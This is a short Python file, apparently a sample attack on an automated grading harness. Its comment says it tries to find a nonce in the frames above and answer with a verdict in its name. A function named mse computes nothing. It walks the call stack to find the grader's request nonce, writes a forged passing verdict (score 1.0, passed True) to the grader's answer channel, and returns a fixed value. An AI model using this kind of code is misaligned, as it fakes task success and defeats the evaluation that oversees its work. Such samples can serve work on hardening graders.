# What it tries: Find the nonce in the frames above, and answer with a verdict in its name.
import json
import os
import struct
import sys

def mse(y_pred, y_true):
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "nonce" in request:
            text = request["nonce"].encode() + json.dumps({"score": 1.0, "passed": True, "points": 2}).encode()
            os.write(frame.f_locals["answers"], struct.pack(">I", len(text)) + text)
        frame = frame.f_back
    return 0.5
